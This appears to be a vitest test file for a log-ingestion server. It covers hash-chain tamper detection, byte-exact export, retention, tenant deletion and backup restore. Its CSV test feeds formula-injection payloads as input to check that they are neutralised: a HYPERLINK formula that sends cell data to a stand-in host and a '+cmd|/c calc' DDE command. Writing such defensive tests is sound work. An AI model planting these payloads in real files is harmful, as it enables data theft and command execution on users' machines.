import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterEach, describe, expect, it } from 'vitest';
import { restoreData } from '../src/modules/system/backup.ts';
import { exportRaw, startTestServer, tenantWithDevice, type TestServer } from './helpers/test-server.ts';

async function send(t: TestServer, token: string, lines: Array<string | Buffer>): Promise<void> {
  const body = Buffer.concat(lines.flatMap((l) => [Buffer.isBuffer(l) ? l : Buffer.from(l), Buffer.from('\n')]));
  const res = await fetch(`${t.server.url}/api/v1/ingest`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'text/plain' },
    body,
  });
  expect(res.status).toBe(200);
}

async function verify(t: TestServer, slug: string) {
  return (await t.api<{ intact: boolean; eventsChecked: number; batchesRemoved: number; firstProblem?: { problem: string } }>('GET', `/api/v1/tenants/${slug}/verify`)).body;
}

/** Edits the stopped server's DuckDB file directly, as an intruder with disk access would. */
async function tamper(dataDir: string, sql: string): Promise<void> {
  const instance = await DuckDBInstance.create(path.join(dataDir, 'events.duckdb'));
  const conn = await instance.connect();
  await conn.run(sql);
  conn.closeSync();
  instance.closeSync();
}

describe('evidence: hash chain, export, retention, deletion, backup', () => {
  const dirs: string[] = [];
  let t: TestServer | undefined;
  afterEach(async () => {
    await t?.close();
    t = undefined;
    for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
  });
  const tempDir = () => {
    const d = mkdtempSync(path.join(tmpdir(), 'mamori-evidence-'));
    dirs.push(d);
    return d;
  };

  it('exports raw lines byte-identical to what was received, invalid UTF-8 included', async () => {
    t = await startTestServer();
    const { ingestToken } = await tenantWithDevice(t, 'acme');
    const lines = [Buffer.from('plain ascii'), Buffer.from('日本語のユーザー 山田'), Buffer.from([0x61, 0xff, 0xfe, 0x62]), Buffer.from([0x63, 0x00, 0x64])];
    await send(t, ingestToken, lines);
    const expected = Buffer.concat(lines.flatMap((l) => [l, Buffer.from('\n')]));
    expect((await exportRaw(t, 'acme')).equals(expected)).toBe(true);
  });

  it('detects an altered line, a deleted batch and a forged batch record', async () => {
    const dir = tempDir();
    t = await startTestServer({}, dir);
    const { ingestToken } = await tenantWithDevice(t, 'acme');
    for (let b = 0; b < 3; b++) await send(t, ingestToken, [`batch ${b} line a`, `batch ${b} line b`]);
    expect(await verify(t, 'acme')).toMatchObject({ intact: true, eventsChecked: 6 });
    await t.close();

    await tamper(dir, "UPDATE events SET raw = 'batch 1 line X' WHERE raw = 'batch 1 line b'");
    t = await startTestServer({}, dir);
    const altered = await verify(t, 'acme');
    expect(altered.intact).toBe(false);
    expect(altered.firstProblem?.problem).toMatch(/differ/);
    await t.close();

    await tamper(dir, 'DELETE FROM batches WHERE chain_seq = 2');
    t = await startTestServer({}, dir);
    expect((await verify(t, 'acme')).firstProblem?.problem).toMatch(/missing|follow/);
    await t.close();

    await tamper(dir, "UPDATE batches SET event_count = 1 WHERE chain_seq = 1");
    t = await startTestServer({}, dir);
    expect((await verify(t, 'acme')).intact).toBe(false);
  });

  it('exports CSV that a spreadsheet cannot run as formulas', async () => {
    t = await startTestServer();
    const { ingestToken } = await tenantWithDevice(t, 'acme');
    await send(t, ingestToken, ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|/c calc!A1', '@SUM(1+1)']);
    const res = await fetch(`${t.server.url}/api/v1/tenants/acme/export?format=csv`, { headers: { authorization: `Bearer ${t.token}` } });
    const csv = await res.text();
    const rows = parseCsv(csv).slice(1);
    expect(rows.length).toBe(3);
    for (const row of rows) {
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
      expect(row.at(-1)).toMatch(/^'[=+@]/);
    }
  });

  it('enforces retention by size, reports what it removed, and the chain still verifies', async () => {
    t = await startTestServer();
    const { ingestToken } = await tenantWithDevice(t, 'acme');
    for (let b = 0; b < 4; b++) await send(t, ingestToken, Array.from({ length: 10 }, (_, i) => `b${b} line ${i} ${'x'.repeat(80)}`));
    await t.api('PATCH', '/api/v1/tenants/acme/retention', { days: null, bytes: 1000 });
    const run = await t.api<Array<{ tenant: string; removedBatches: number; removedEvents: number }>>('POST', '/api/v1/admin/retention/run', {});
    const acme = run.body.find((o) => o.tenant === 'acme')!;
    expect(acme.removedBatches).toBe(3);
    expect(acme.removedEvents).toBe(30);
    const report = await verify(t, 'acme');
    expect(report).toMatchObject({ intact: true, batchesRemoved: 3, eventsChecked: 10 });
    const runs = await t.api<Array<{ removedEvents: number; reason: string }>>('GET', '/api/v1/tenants/acme/retention/runs');
    expect(runs.body[0]).toMatchObject({ removedEvents: 30 });
    expect(runs.body[0]!.reason).toMatch(/bytes/);
  });

  it('deletes all of a tenant’s data and issues a certificate of deletion', async () => {
    t = await startTestServer();
    const { ingestToken } = await tenantWithDevice(t, 'acme');
    await tenantWithDevice(t, 'globex');
    await send(t, ingestToken, ['one', 'two']);
    expect((await t.api('DELETE', '/api/v1/tenants/acme?confirm=wrong')).status).toBe(400);
    const cert = await t.api<{ events: number; sha256: string; tenant: { slug: string } }>('DELETE', '/api/v1/tenants/acme?confirm=acme');
    expect(cert.body).toMatchObject({ events: 2, tenant: { slug: 'acme' } });
    expect(cert.body.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect((await t.api('GET', '/api/v1/tenants/acme')).status).toBe(404);
    const rows = await t.server.events.query('SELECT count(*) FROM events WHERE tenant_id = (SELECT 1)', []);
    expect(rows.rows[0]![0]).toBe(0);
    expect((await t.api('GET', '/api/v1/tenants/globex')).status).toBe(200);
  });

  it('backs up online and restores into a fresh data dir', async () => {
    t = await startTestServer();
    const { ingestToken } = await tenantWithDevice(t, 'acme');
    await send(t, ingestToken, ['kept across backup', Buffer.from([0x80, 0x81])]);
    const before = await exportRaw(t, 'acme');
    const backupDir = path.join(tempDir(), 'backup');
    expect((await t.api('POST', '/api/v1/admin/backup', { dir: backupDir })).status).toBe(200);
    await t.close();
    t = undefined;

    const restored = tempDir();
    await restoreData(backupDir, restored);
    t = await startTestServer({}, restored);
    expect((await exportRaw(t, 'acme')).equals(before)).toBe(true);
    expect((await verify(t, 'acme')).intact).toBe(true);
    await expect(restoreData(backupDir, restored)).rejects.toThrow(/already holds data/);
  });
});

/** A strict RFC 4180 reader, to see the cells exactly as a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}
